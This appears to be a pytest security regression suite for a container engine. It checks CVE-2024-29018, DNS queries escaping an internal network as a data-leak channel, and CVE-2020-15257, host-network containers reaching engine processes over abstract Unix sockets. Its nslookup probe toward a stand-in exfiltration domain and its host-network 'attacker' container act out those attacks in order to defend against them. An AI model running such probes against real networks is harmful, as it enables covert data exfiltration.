"""Attacks over sockets: those of the engine's own processes, and names of what is outside."""

from __future__ import annotations

import os
from collections.abc import Iterator
from pathlib import Path

import pytest
from tests.root.engine.conftest import TestEngine, read_all, split_frames
from tests.root.network.test_resolver_process import Upstream, answer_to

from wherry.engine.records import ExecOptions
from wherry.model.container import ContainerConfig, EndpointSettings, HostConfig, NetworkingConfig
from wherry.network.api import NetworkRequest

pytestmark = [pytest.mark.root, pytest.mark.usefixtures("nothing_is_left")]

NAME = "tunnelled-data.example.com"
NAMED = ContainerConfig(image="busybox:latest", cmd=("sleep", "600"))


def attach(engine: TestEngine, network: str, *, dns: str) -> str:
    created = engine.engine.containers.create(
        "",
        NAMED,
        HostConfig(network_mode=network, dns=(dns,)),
        NetworkingConfig(endpoints_config={network: EndpointSettings()}),
    )
    engine.engine.containers.start(created.id)
    return created.id


def inside(engine: TestEngine, container: str, *cmd: str) -> str:
    asked = ExecOptions(cmd=cmd, attach_stdout=True, attach_stderr=True)
    stream = engine.engine.execs.start(engine.engine.execs.create(container, asked), detach=False)
    assert stream is not None
    with stream:
        return b"".join(split_frames(read_all(stream))).decode(errors="replace")


# --- CVE-2024-29018 ---


@pytest.fixture
def outside() -> Iterator[Upstream]:
    """A name server on the host's loopback, where only the engine's own processes reach it."""
    made = Upstream(lambda packet: answer_to(packet, "10.1.2.3"), lambda packet: None)
    yield made
    made.close()


@pytest.mark.parametrize("internal", [False, True])
def test_cve_2024_29018_an_internal_network_asks_nobody_outside(
    engine: TestEngine, outside: Upstream, internal: bool
) -> None:
    """Questions are a way out: whoever owns the domain reads them. Without ``internal`` the same
    question arrives, so that the attack is a real one."""
    request = NetworkRequest(name="hidden", internal=internal)
    network = engine.engine.attachments.create(request)
    container = attach(engine, "hidden", dns=outside.address)
    try:
        said = inside(engine, container, "nslookup", "-timeout=20", "-retry=1", "-type=a", NAME)
        straight = inside(
            engine,
            container,
            "nslookup",
            "-timeout=1",
            "-retry=1",
            "-type=a",
            NAME,
            outside.address,
        )
    finally:
        engine.engine.containers.remove(container, force=True)
        engine.engine.attachments.remove(network.id)
    assert "10.1.2.3" not in straight
    assert ("10.1.2.3" in said, bool(outside.asked)) == (not internal, not internal)


# --- CVE-2020-15257 ---


def descendants(of: int) -> set[int]:
    parents = {}
    for name in filter(str.isdigit, os.listdir("/proc")):
        try:
            parents[int(name)] = int(
                Path(f"/proc/{name}/stat").read_text().rpartition(")")[2].split()[1]
            )
        except OSError:
            continue
    found = {of}
    while more := {pid for pid, parent in parents.items() if parent in found} - found:
        found |= more
    return found


def title_of(pid: int) -> str:
    try:
        return Path(f"/proc/{pid}/cmdline").read_text().replace("\0", " ").split(" ")[0]
    except OSError:  # it has ended
        return ""


def sockets_of(pid: int) -> set[str]:
    """Inodes of the sockets that a process has."""
    try:
        links = [os.readlink(entry.path) for entry in os.scandir(f"/proc/{pid}/fd")]
    except OSError:
        return set()
    return {link[8:-1] for link in links if link.startswith("socket:[")}


def _sockets(engine: TestEngine) -> list[Path]:
    paths = [
        *Path(engine.settings.exec_root).rglob("*"),
        *Path(engine.settings.data_root).glob("*"),
    ]
    return [path for path in paths if path.is_socket()]


def _is_open_to_others(path: Path) -> bool:
    """To connect one has to find the socket and to be allowed to write to it."""
    return bool(path.stat().st_mode & 0o002 and path.parent.stat().st_mode & 0o001)


def test_cve_2020_15257_no_process_listens_on_an_abstract_socket(engine: TestEngine) -> None:
    """Abstract names belong to the network namespace: a container with the host's could speak to
    the engine's own processes."""
    network = engine.engine.attachments.create(NetworkRequest(name="named"))
    named = attach(engine, "named", dns="127.0.0.1")  # so that there is a resolver
    attacker = engine.create("sleep", "600", host=HostConfig(network_mode="host"))
    try:
        engine.engine.containers.start(attacker)
        for container in (named, attacker):  # their monitors sleep until there is something to do
            engine.engine.containers.kill(container, signal="SIGCONT")
        seen = inside(engine, attacker, "cat", "/proc/net/unix").splitlines()[1:]
        processes = descendants(os.getpid())
        titles = {title_of(pid) for pid in processes}
        others = [path for path in _sockets(engine) if _is_open_to_others(path)]
        ours = set[str]().union(*map(sockets_of, processes))
    finally:
        for container in (named, attacker):
            engine.engine.containers.remove(container, force=True)
        engine.engine.attachments.remove(network.id)
    assert others == []
    assert {"wherry-launcher", "wherry-monitor"} <= titles
    bound = {
        fields[7]
        for fields in (line.split() for line in seen)
        if len(fields) == 8 and fields[6] in ours
    }
    assert not [name for name in bound if name.startswith("@")]
    assert {"monitor.sock", "resolver.sock"} <= {os.path.basename(name) for name in bound}
